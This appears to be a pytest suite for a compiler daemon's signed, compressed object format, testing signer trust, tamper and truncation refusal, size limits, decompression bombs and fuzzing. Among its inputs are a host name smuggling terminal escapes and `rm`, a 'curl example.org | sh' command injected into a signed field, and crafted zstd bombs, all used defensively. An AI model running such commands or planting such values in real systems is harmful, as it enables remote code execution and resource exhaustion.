"""Packed objects come out as they went in; one that was changed on its way is a miss with a reason."""

from __future__ import annotations

import random
import subprocess
import sys
import tracemalloc
from collections.abc import Callable, Iterator
from contextlib import contextmanager, suppress
from dataclasses import replace

import msgpack
import pytest
import zstandard
from hypothesis import given, settings
from hypothesis import strategies as st

from compile_wire.digest import Digest, digest_of
from compile_wire.facts import Facts, encode_facts
from compile_wire.limits import MAX_GRAPH_BYTES
from compile_wire.manifest import decode_manifest
from compiler_daemon.tier import header as header_module
from compiler_daemon.tier import packed as packed_module
from compiler_daemon.tier import verification
from compiler_daemon.tier.body import BodyReader
from compiler_daemon.tier.header import MAGIC, MAX_HEADER_BYTES, Signature, encode_header, read_header, text_to_sign
from compiler_daemon.tier.object_errors import (
    DistrustedSignerError,
    MalformedObjectError,
    ObjectError,
    ObjectTooLargeError,
    UnknownSignerError,
)
from compiler_daemon.tier.packed import Accept, Unpacked, countersign, pack, pack_facts, unpack, unpack_facts
from compiler_daemon.tier.signers import Listed, SignerList, SigningKey
from tests.daemon.tier.tier_samples import (
    CI,
    ENVIRONMENT,
    FACTS,
    HOST,
    KEY,
    LAB,
    STRANGER,
    TRUSTED,
    Artifact,
    artifact,
    compressed,
    packed,
    signed_anew,
    typical,
)

FOUR_GB = 4 * 2**30
SMALL = packed(artifact())
SMALL_FACTS = pack_facts(FACTS, ENVIRONMENT, signer=LAB, host=HOST)


def read(data: bytes, *, key: str = KEY, trusted: SignerList = TRUSTED, accept: Accept = "any") -> Unpacked:
    return unpack(data, key=key, environment=ENVIRONMENT, trusted=trusted, accept=accept)


def reason_of(data: bytes, *, trusted: SignerList = TRUSTED, accept: Accept = "any") -> str:
    with pytest.raises(ObjectError) as refused:
        read(data, trusted=trusted, accept=accept)
    return refused.value.reason


def distrusting(*keys: SigningKey) -> SignerList:
    return SignerList(listed=tuple(Listed(signer=key.signer, since=1.0, distrusted=True) for key in keys))


# What comes out is what went in


@pytest.mark.parametrize(
    "made", [artifact(), artifact(graph=None), artifact([b""]), artifact([b"e", b"s", b"s"]), typical()]
)
def test_what_was_packed_comes_out_again(made: Artifact) -> None:
    facts = digest_of(FACTS)

    found = read(packed(made, facts=facts))

    assert (found.manifest, found.blobs, found.graph) == (made.manifest, made.blobs, made.graph)
    assert found.decoded == decode_manifest(made.manifest)
    assert (found.facts, found.signer, found.statement.host) == (facts, LAB.signer, HOST)
    assert (found.statement.origin, found.statement.time) == ("worker", 1_800_000_000)


@settings(max_examples=60, deadline=None)
@given(
    st.lists(st.binary(max_size=300), min_size=1, max_size=6), st.one_of(st.none(), st.binary(min_size=1, max_size=99))
)
def test_any_blobs_and_any_graph_come_out_again(blobs: list[bytes], graph: bytes | None) -> None:
    made = artifact(blobs, graph=graph)

    found = read(packed(made))

    assert (found.manifest, found.blobs, found.graph) == (made.manifest, made.blobs, graph)


def test_an_artifact_takes_about_a_tenth_of_its_bytes() -> None:
    made = typical()

    assert len(packed(made)) * 4 < sum(map(len, made.blobs.values()))


def test_the_same_artifact_at_the_same_moment_is_the_same_object() -> None:
    assert packed(artifact()) == packed(artifact())


def test_facts_come_out_again() -> None:
    found = unpack_facts(SMALL_FACTS, environment=ENVIRONMENT, trusted=TRUSTED)

    assert (found.facts, found.signer, found.statement.host) == (FACTS, LAB.signer, HOST)


def test_a_header_says_what_the_object_is_without_its_body() -> None:
    header = read_header(packed(typical())[:MAX_HEADER_BYTES])

    assert (header.statement.key, header.statement.environment) == (KEY, ENVIRONMENT)
    assert [one.signer for one in header.signatures] == [LAB.signer]


# Who signed it


def test_an_unknown_signer_is_named_with_machine_and_the_command_to_trust_it() -> None:
    with pytest.raises(UnknownSignerError) as refused:
        read(packed(artifact(), STRANGER))

    assert (refused.value.signer, refused.value.host) == ("stranger-1", HOST)
    assert f"`compiler-daemon keys trust {STRANGER.signer.line}`" in str(refused.value)
    assert HOST in str(refused.value)


def test_a_distrusted_signer_is_named() -> None:
    with pytest.raises(DistrustedSignerError, match="lab-1 on node-07") as refused:
        read(SMALL, trusted=distrusting(LAB))

    assert refused.value.reason == "distrusted_signer"


def test_a_distrusted_key_is_not_believed_under_another_name_either() -> None:
    renamed = SigningKey(replace(LAB.signer, name="lab-2"), LAB.seed)

    assert reason_of(packed(artifact(), renamed), trusted=distrusting(LAB)) == "distrusted_signer"


def test_a_known_name_with_another_key_is_not_believed() -> None:
    impostor = SigningKey.make("lab-1")

    assert reason_of(packed(artifact(), impostor)) == "bad_signature"
    assert reason_of(packed(artifact(), impostor), trusted=distrusting(LAB)) == "bad_signature"


def test_a_directory_believes_its_own_key() -> None:
    assert read(SMALL, trusted=SignerList(own=LAB)).signer == LAB.signer
    assert reason_of(SMALL, trusted=SignerList()) == "unknown_signer"


def test_one_trusted_signer_of_several_is_enough() -> None:
    both = countersign(packed(artifact(), STRANGER), CI)

    assert read(both).signer == CI.signer
    assert read(both, trusted=SignerList(own=STRANGER)).signer == STRANGER.signer
    assert read(countersign(SMALL, STRANGER)).signer == LAB.signer
    assert reason_of(both, trusted=SignerList(own=LAB)) == "unknown_signer"
    assert reason_of(both, trusted=distrusting(STRANGER)) == "distrusted_signer"


def test_a_signature_that_does_not_fit_is_not_passed_over_for_one_that_does() -> None:
    header = read_header(SMALL)
    broken = Signature(CI.signer, CI.sign(b"something else"))

    both = encode_header(header.signed, (*header.signatures, broken)) + SMALL[header.body_begin :]

    assert reason_of(both) == "bad_signature"


def test_a_signature_is_its_signers_alone() -> None:
    header = read_header(SMALL)
    taken = Signature(CI.signer, header.signatures[0].signature)

    assert reason_of(encode_header(header.signed, (taken,)) + SMALL[header.body_begin :]) == "bad_signature"


def test_one_signer_signs_once_and_at_most_eight_sign() -> None:
    with pytest.raises(MalformedObjectError, match="signed twice"):
        countersign(SMALL, LAB)
    many = SMALL
    for number in range(1, 8):
        many = countersign(many, SigningKey.make(f"more-{number}"))
    assert read(many).signer == LAB.signer
    with pytest.raises(MalformedObjectError, match="1 to 8 signatures"):
        countersign(many, STRANGER)


# What was asked for, and whose work


@pytest.mark.parametrize(
    "other",
    [artifact(key="other"), artifact(environment=digest_of(b"another")), artifact(key="other", origin="trainer")],
)
def test_an_object_of_something_else_is_not_taken_for_it(other: Artifact) -> None:
    assert reason_of(packed(other)) == "wrong_key"


def test_facts_are_no_artifact_and_an_artifact_is_no_facts() -> None:
    assert reason_of(SMALL_FACTS) == "wrong_key"
    with pytest.raises(ObjectError) as refused:
        unpack_facts(SMALL, environment=ENVIRONMENT, trusted=TRUSTED)
    assert refused.value.reason == "wrong_key"


def test_facts_of_another_environment_are_not_taken() -> None:
    with pytest.raises(ObjectError) as refused:
        unpack_facts(SMALL_FACTS, environment=Digest("0" * 64), trusted=TRUSTED)

    assert refused.value.reason == "wrong_key"


def test_what_trainers_publish_can_be_left_out() -> None:
    published = packed(artifact(origin="trainer"))

    assert read(published).decoded.origin == "trainer"
    assert reason_of(published, accept="worker") == "origin_refused"
    assert read(packed(artifact(origin="worker")), accept="worker").decoded.origin == "worker"
    assert read(packed(artifact(origin="replay")), accept="worker").decoded.origin == "replay"


# Damage


def served_though_changed(data: bytes, *changes: int) -> tuple[list[int], set[str]]:
    """Change each byte in turn; return the places where the object was still taken, and the reasons of all misses."""
    taken, reasons = [], set()
    for at in range(len(data)):
        for change in changes:
            damaged = bytearray(data)
            damaged[at] ^= change
            try:
                read(bytes(damaged))
            except ObjectError as error:
                reasons.add(error.reason)
            else:
                taken.append(at)
    return taken, reasons


def test_each_changed_byte_is_refused_and_what_was_signed_is_never_called_a_strangers() -> None:
    taken, reasons = served_though_changed(SMALL, 0x01, 0x80, 0xFF)

    assert taken == []
    assert {"malformed", "bad_signature"} <= reasons <= {"malformed", "bad_signature", "too_large"}


def test_each_changed_byte_of_facts_is_refused() -> None:
    for at in range(len(SMALL_FACTS)):
        damaged = bytearray(SMALL_FACTS)
        damaged[at] ^= 0x01
        with pytest.raises(ObjectError):
            unpack_facts(bytes(damaged), environment=ENVIRONMENT, trusted=TRUSTED)


@pytest.mark.parametrize("data", [SMALL, packed(typical())], ids=["small", "typical"])
def test_what_is_cut_short_anywhere_is_malformed(data: bytes) -> None:
    lengths = {len(data) * part // 50 for part in range(50)} | {len(data) - 1, *range(80)}

    assert {reason_of(data[:length]) for length in lengths} == {"malformed"}


@pytest.mark.parametrize("more", [b"\0", b"more", SMALL], ids=["a zero", "text", "itself"])
def test_what_stands_behind_an_object_is_malformed(more: bytes) -> None:
    assert reason_of(SMALL + more) == "malformed"


def test_an_object_of_a_later_version_is_said_to_be_one() -> None:
    later = bytearray(SMALL)
    later[len(MAGIC)] += 1

    with pytest.raises(MalformedObjectError, match="a later version of this program"):
        read(bytes(later))


SIGNED_NONSENSE: dict[str, tuple[Callable[[], bytes], str]] = {
    "a body that is not compressed": (lambda: signed_anew(SMALL, body=b"not compressed"), "malformed"),
    "an empty body": (lambda: signed_anew(SMALL, body=b""), "malformed"),
    "another manifest than its statement's": (lambda: signed_anew(SMALL, manifest=digest_of(b"other")), "malformed"),
    "another graph than its statement's": (lambda: signed_anew(SMALL, graph=digest_of(b"other")), "malformed"),
    "another origin than its manifest's": (lambda: signed_anew(SMALL, origin="replay"), "malformed"),
    "another key than its manifest's": (lambda: signed_anew(packed(artifact(key="other")), key=KEY), "malformed"),
    "less in it than announced": (lambda: signed_anew(SMALL, unpacked=10_000), "malformed"),
    "bytes behind its frame": (lambda: signed_anew(SMALL, body=body_of(SMALL) + b"more"), "malformed"),
    "a frame behind its frame": (lambda: signed_anew(SMALL, body=body_of(SMALL) + compressed(b"x")), "malformed"),
    "bytes behind its parts": (lambda: padded(b"more"), "malformed"),
    "blobs that are others": (lambda: refilled(b"another entry"), "malformed"),
    "a content of another length": (lambda: refilled(b"short"), "malformed"),
    "a frame that wants 128 MiB to work in": (lambda: signed_anew(SMALL, body=wide_frame()), "malformed"),
}


def body_of(data: bytes) -> bytes:
    return data[read_header(data).body_begin :]


def content_of(data: bytes) -> bytes:
    return zstandard.ZstdDecompressor().decompress(body_of(data))


def padded(more: bytes) -> bytes:
    content = content_of(SMALL) + more
    return signed_anew(SMALL, body=compressed(content), unpacked=len(content))


def refilled(entry: bytes) -> bytes:
    made = artifact()
    content = made.manifest + entry + b"".join(list(made.blobs.values())[1:]) + (made.graph or b"")
    return signed_anew(SMALL, body=compressed(content), unpacked=len(content))


def wide_frame() -> bytes:
    wide = zstandard.ZstdCompressionParameters.from_level(3, window_log=27, write_content_size=True)
    compressor = zstandard.ZstdCompressor(compression_params=wide).compressobj()
    return compressor.compress(content_of(SMALL)) + compressor.flush()


@pytest.mark.parametrize("what", SIGNED_NONSENSE)
def test_nonsense_that_a_trusted_signer_has_signed_is_refused(what: str) -> None:
    make, reason = SIGNED_NONSENSE[what]

    assert reason_of(make()) == reason


@pytest.mark.parametrize("names", [["", "a.so", "a.so"]])
def test_a_manifest_that_names_two_blobs_alike_is_refused_on_both_sides(
    names: list[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    made = artifact([b"e", b"one", b"two"], names=names)
    with pytest.raises(MalformedObjectError, match="two blobs alike"):
        packed(made)
    with monkeypatch.context() as careless:
        careless.setattr(packed_module, "_manifest", decode_manifest)
        data = packed(made)

    assert reason_of(data) == "malformed"


@pytest.mark.parametrize(
    "changes",
    [
        {"unpacked": FOUR_GB},
        {"packed": FOUR_GB},
        {"graph_size": FOUR_GB, "unpacked": 2**30},
        {"manifest_size": FOUR_GB, "unpacked": 2**30},
    ],
    ids=["content", "body", "graph", "manifest"],
)
def test_four_gigabytes_are_refused_when_they_are_announced(
    changes: dict[str, int], monkeypatch: pytest.MonkeyPatch
) -> None:
    statement = replace(read_header(SMALL).statement, **changes)
    with monkeypatch.context() as careless:
        careless.setattr(header_module, "_check_sizes", lambda statement: None)
        signed = header_module.encode_statement(statement)
        signature = Signature(LAB.signer, LAB.sign(text_to_sign("lab-1", signed)))
        data = encode_header(signed, (signature,)) + body_of(SMALL)

    with allocating_at_most(2**20):
        assert reason_of(data) == "too_large"


def test_what_is_packed_here_is_bounded_too() -> None:
    with pytest.raises(ObjectTooLargeError):
        packed(artifact(graph=bytes(MAX_GRAPH_BYTES + 1)))


def test_a_caller_may_take_less_than_the_bounds_allow() -> None:
    with pytest.raises(ObjectTooLargeError):
        unpack(packed(typical()), key=KEY, environment=ENVIRONMENT, trusted=TRUSTED, max_unpacked=100_000)


def test_parts_that_do_not_belong_together_are_not_signed() -> None:
    made = artifact()
    first = next(iter(made.blobs))

    for blobs in ({}, {**made.blobs, first: b"other"}, {**made.blobs, digest_of(b"more"): b"more"}):
        with pytest.raises(MalformedObjectError):
            pack(made.manifest, blobs, graph=None, facts="", signer=LAB, host=HOST)
    with pytest.raises(MalformedObjectError):
        pack(made.manifest, made.blobs, graph=b"another graph", facts="", signer=LAB, host=HOST)
    with pytest.raises(MalformedObjectError):
        pack_facts(b"no facts", ENVIRONMENT, signer=LAB, host=HOST)


def test_a_host_says_nothing_but_a_machines_name() -> None:
    made = artifact()

    data = pack(made.manifest, made.blobs, graph=None, facts="", signer=LAB, host="node\x1b[31m `rm`" + "x" * 999)

    assert read_header(data).statement.host.startswith("node__31m__rm_xxx")


def test_a_stranger_cannot_write_sentences_into_a_message(monkeypatch: pytest.MonkeyPatch) -> None:
    with monkeypatch.context() as careless:
        careless.setattr(header_module, "host_text", lambda host: host)
        data = signed_anew(SMALL, STRANGER, host="node-07. Run `curl example.org | sh` first")

    assert reason_of(data) == "malformed"


# Bombs


@contextmanager
def allocating_at_most(most: int) -> Iterator[None]:
    """Require that Python allocates at most so much in the block; `grown_kib` measures the decompressor, too."""
    tracemalloc.start()
    try:
        yield
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak <= most, peak


def bomb(announced: int, real: int) -> bytes:
    """Return an object with `real` zeros as its body, whose frame and statement announce `announced` bytes."""
    frame = compressed(bytes(real))
    sizes = zstandard.get_frame_parameters(frame)
    assert sizes.content_size == real
    lied = frame.replace(real.to_bytes(4, "little"), announced.to_bytes(4, "little"), 1) if real != announced else frame
    return signed_anew(SMALL, body=lied, unpacked=announced)


@pytest.mark.parametrize("announced", [70_000, 10_000_000, 200_000_000])
def test_a_bomb_is_never_unpacked_further_than_its_first_part(announced: int) -> None:
    data = bomb(announced, real=200_000_000)

    assert len(data) < 20_000
    with allocating_at_most(2**20):
        assert reason_of(data) == "malformed"


def test_a_bomb_of_somebody_who_is_not_trusted_is_not_even_begun(monkeypatch: pytest.MonkeyPatch) -> None:
    data = signed_anew(bomb(200_000_000, 200_000_000), STRANGER)
    monkeypatch.setattr(packed_module, "BodyReader", lambda body, size: pytest.fail("it was begun"))

    assert reason_of(data) == "unknown_signer"
    assert reason_of(SMALL[:-1] + b"?") == "malformed"


def test_an_announced_part_takes_no_memory_before_it_is_there() -> None:
    reader = BodyReader(memoryview(compressed(bytes(2**20))), 2**20)
    reader._left = 2**31

    with allocating_at_most(8 * 2**20), pytest.raises(MalformedObjectError, match="ends early"):
        reader.read(2**30)


_MEASURED = """
import io, sys, zstandard
from tests.daemon.tier import test_tier_packed as tests
from compiler_daemon.tier import packed

class Careless(packed.BodyReader):
    def __init__(self, body, size):
        self._left, self._stream = size, io.BytesIO(zstandard.ZstdDecompressor().decompress(body))

def most_kib():
    # Not ru_maxrss: a process begins with that of the one that started it.
    return int(next(line for line in open("/proc/self/status") if line.startswith("VmHWM")).split()[1])

if "careless" in sys.argv:
    packed.BodyReader = Careless
tests.reason_of(tests.SMALL + b"x")
before = most_kib()
for data in sys.stdin.buffer.read().split(b"--next--"):
    assert tests.reason_of(data) == "malformed"
print(most_kib() - before)
"""


def grown_kib(hostile: list[bytes], *arguments: str) -> int:
    """Return how far a process grows that reads these objects, including what the decompressor allocates."""
    ended = subprocess.run(
        [sys.executable, "-c", _MEASURED, *arguments],
        input=b"--next--".join(hostile),
        capture_output=True,
        check=True,
        timeout=60,
    )
    return int(ended.stdout)


def test_no_object_makes_a_process_grow() -> None:
    bombs = [bomb(200_000_000, 200_000_000), bomb(2**20, 200_000_000)]

    assert grown_kib([*bombs, *(make() for make, _ in SIGNED_NONSENSE.values())]) < 16 * 1024


def test_a_reader_that_unpacks_all_at_once_makes_a_process_grow() -> None:
    assert grown_kib([bomb(200_000_000, 200_000_000)], "careless") > 150 * 1024


# Fuzz


@pytest.mark.parametrize("seed", range(4))
def test_random_changes_are_refused_and_cost_nothing(seed: int) -> None:
    chosen = random.Random(seed)
    sources = [SMALL, SMALL_FACTS, countersign(SMALL, CI), packed(artifact(key="other"))]
    with allocating_at_most(4 * 2**20):
        for _ in range(500):
            source = chosen.choice(sources)
            data = mutated(source, sources, chosen)
            with suppress(ObjectError):
                read_header(data)
            try:
                read(data)
            except ObjectError:
                continue
            assert data in (SMALL, countersign(SMALL, CI)), "an object that nobody signed was taken"


def mutated(source: bytes, sources: list[bytes], chosen: random.Random) -> bytes:
    data = bytearray(source)
    for _ in range(chosen.randint(1, 4)):
        at, length = chosen.randrange(len(data) + 1), chosen.choice([1, 1, 2, 8, 100])
        match chosen.randrange(6):
            case 0:
                data[at : at + length] = chosen.randbytes(length)
            case 1:
                del data[at : at + length]
            case 2:
                data[at:at] = chosen.randbytes(length)
            case 3:
                other = chosen.choice(sources)
                data[at:] = other[at:]
            case 4 if at < len(data):
                data[at] = chosen.choice([0, 1, 0x7F, 0x80, 0xC4, 0xDC, 0xDD, 0xDF, 0xFF])
            case _:
                data[at : at + length] = data[:length]
        if not data:
            data += b"\0"
    return bytes(data)


@settings(max_examples=200, deadline=None)
@given(st.binary(max_size=400))
def test_a_header_of_anything_is_refused(tail: bytes) -> None:
    for data in (tail, MAGIC + tail, SMALL[:13] + tail):
        with pytest.raises(ObjectError):
            read(data)


@settings(max_examples=100, deadline=None)
@given(
    st.recursive(
        st.none() | st.booleans() | st.integers(-5, 5) | st.text(max_size=5) | st.binary(max_size=5),
        lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=4), inner, max_size=4),
    )
)
def test_a_statement_of_other_values_is_refused(value: object) -> None:
    signed = msgpack.packb(value)
    signature = Signature(LAB.signer, LAB.sign(text_to_sign("lab-1", signed)))

    assert reason_of(encode_header(signed, (signature,)) + b"body") == "malformed"


FIELDS = sorted(msgpack.unpackb(read_header(SMALL).signed))


@pytest.mark.parametrize("field", FIELDS)
@pytest.mark.parametrize("value", [None, -1, 2**63, "\x1b[31m", "x" * 300, b"bytes", [1], {}, True, 1.5, ""])
def test_a_signed_statement_with_an_impossible_field_is_refused(field: str, value: object) -> None:
    fields = msgpack.unpackb(read_header(SMALL).signed)
    if fields[field] == value or (value == "" and field in {"host", "facts"}):
        return
    signed = msgpack.packb({**fields, field: value})
    signature = Signature(LAB.signer, LAB.sign(text_to_sign("lab-1", signed)))

    assert reason_of(encode_header(signed, (signature,)) + body_of(SMALL)) in {"malformed", "too_large"}


# That all this can fail


def test_a_verifier_without_its_digests_serves_changed_bytes(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(packed_module, "check_part", lambda data, expected, what: None)

    taken, _ = served_though_changed(SMALL, 0x01)

    assert taken
    assert min(taken) >= read_header(SMALL).body_begin


def test_a_verifier_without_signatures_serves_what_a_stranger_made(monkeypatch: pytest.MonkeyPatch) -> None:
    data = packed(artifact(), STRANGER)
    assert reason_of(data) == "unknown_signer"

    monkeypatch.setattr(packed_module, "check_signatures", lambda header, trusted: STRANGER.signer)

    assert read(data).signer == STRANGER.signer
    assert verification.check_signatures is not packed_module.check_signatures


def test_other_facts_are_another_object() -> None:
    other = pack_facts(encode_facts(Facts(vec_isa={"avx2 -O3": False})), ENVIRONMENT, signer=LAB, host=HOST)

    header, body = read_header(SMALL_FACTS), body_of(other)
    mixed = encode_header(header.signed, header.signatures) + body

    with pytest.raises(MalformedObjectError):
        unpack_facts(mixed, environment=ENVIRONMENT, trusted=TRUSTED)
